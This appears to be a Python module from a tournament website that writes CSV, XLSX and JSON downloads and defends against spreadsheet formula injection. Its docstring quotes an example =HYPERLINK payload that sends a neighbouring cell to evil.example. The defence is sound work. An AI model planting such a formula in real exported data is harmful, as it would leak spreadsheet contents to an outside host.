"""Every download of rows (CSV, XLSX, JSON) is written here, and nowhere else.

Names, event and season names are typed by players and organisers, and a spreadsheet runs a
cell that begins like a formula: ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` as a
name would send the cell next to it away when an organiser opens the file (OWASP's "CSV
injection"). So, as OWASP describes:

- XLSX: every text cell is written as text, whatever it begins with; one that begins like a
  formula is also marked as typed with an apostrophe (Excel's quote prefix), so that it stays
  text when someone edits it. The name reads exactly as typed.
- CSV: a text cell that begins (after any spaces) with ``= + - @``, a tab or a carriage
  return gets a leading apostrophe, which spreadsheets show as "this is text".
- Numbers the site writes (ranks, points, a score of -3) are Python numbers, not text: they
  stay numbers, a numeric cell in XLSX and ``-3`` in CSV. Only text is ever neutralised, so
  a typed name "-3" is written ``'-3`` while the score -3 is written ``-3``.
- JSON is data for programs, not a spreadsheet: written as it is.

tests/tournaments/test_export_formulas.py fetches every route that answers a spreadsheet
with hostile names, and fails when a module other than this one writes CSV or XLSX.
"""

from __future__ import annotations

import codecs
import csv
import datetime
import io
import numbers
import re

import tablib
from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

#: What makes a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "json": "application/json",
}
FORMATS = tuple(CONTENT_TYPES)

#: Characters a sheet's name may not hold, and its longest name (Excel's rules).
_NOT_IN_TITLE = re.compile(r"[\[\]:*?/\\]")
_TITLE_MAX = 31
#: Values written as they are: numbers (bool is one), dates, and nothing.
_DATA = (numbers.Number, datetime.date, datetime.time)


def begins_formula(text: str) -> bool:
    """Would a spreadsheet read this text as a formula (leading spaces hide nothing)."""
    return text.lstrip(" ")[:1] in FORMULA_START


def csv_cell(value):
    """A CSV cell: numbers and dates as they are, text with an apostrophe before a formula."""
    if value is None:
        return ""
    if isinstance(value, _DATA):
        return value
    text = str(value)
    return "'" + text if begins_formula(text) else text


def _csv(headers, rows) -> bytes:
    stream = io.StringIO()
    writer = csv.writer(stream)
    for row in [headers, *rows]:
        writer.writerow([csv_cell(value) for value in row])
    # Excel reads a CSV file without a byte order mark in the computer's old code page, so
    # Cyrillic names came out garbled; with the mark it reads UTF-8 (other programs skip it).
    return codecs.BOM_UTF8 + stream.getvalue().encode("utf-8")


def _sheet_title(title: str) -> str:
    return _NOT_IN_TITLE.sub("-", str(title))[:_TITLE_MAX].strip("' ") or "Sheet"


def _xlsx_cell(cell, value) -> None:
    if value is None:
        return
    if isinstance(value, _DATA):
        cell.value = value
        return
    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
    cell.value = text
    # openpyxl makes "=..." a formula and "#N/A" an error: a typed text is text.
    cell.data_type = "s"
    if begins_formula(text):
        cell.quotePrefix = True
    if "\n" in text:
        cell.alignment = Alignment(wrap_text=True)


def _xlsx(headers, rows, title: str) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = _sheet_title(title)
    bold = Font(bold=True)
    widths: dict[int, int] = {}
    for number, row in enumerate([headers, *rows], start=1):
        for column, value in enumerate(row, start=1):
            cell = sheet.cell(row=number, column=column)
            _xlsx_cell(cell, value)
            if number == 1:
                cell.font = bold
            widths[column] = max(widths.get(column, 0), len("" if value is None else str(value)))
    sheet.freeze_panes = "A2"
    for column, width in widths.items():
        sheet.column_dimensions[get_column_letter(column)].width = width
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def _json(headers, rows) -> bytes:
    dataset = tablib.Dataset(*[list(row) for row in rows], headers=list(map(str, headers)))
    return dataset.export("json").encode("utf-8")


def rows_file(fmt: str, headers, rows, *, title: str) -> bytes:
    """The file of these rows under these headers, in a format of FORMATS."""
    rows = [list(row) for row in rows]
    if fmt == "csv":
        return _csv(headers, rows)
    if fmt == "xlsx":
        return _xlsx(headers, rows, title)
    if fmt == "json":
        return _json(headers, rows)
    raise ValueError(f"not a download format: {fmt!r}")


def attachment(body: bytes, fmt: str, filename: str) -> HttpResponse:
    """A file to save (``Content-Disposition: attachment``) of a format of FORMATS."""
    response = HttpResponse(body, content_type=CONTENT_TYPES[fmt])
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def download(fmt: str, headers, rows, *, title: str, filename: str) -> HttpResponse:
    """The rows as a file to save."""
    return attachment(rows_file(fmt, headers, rows, title=title), fmt, filename)
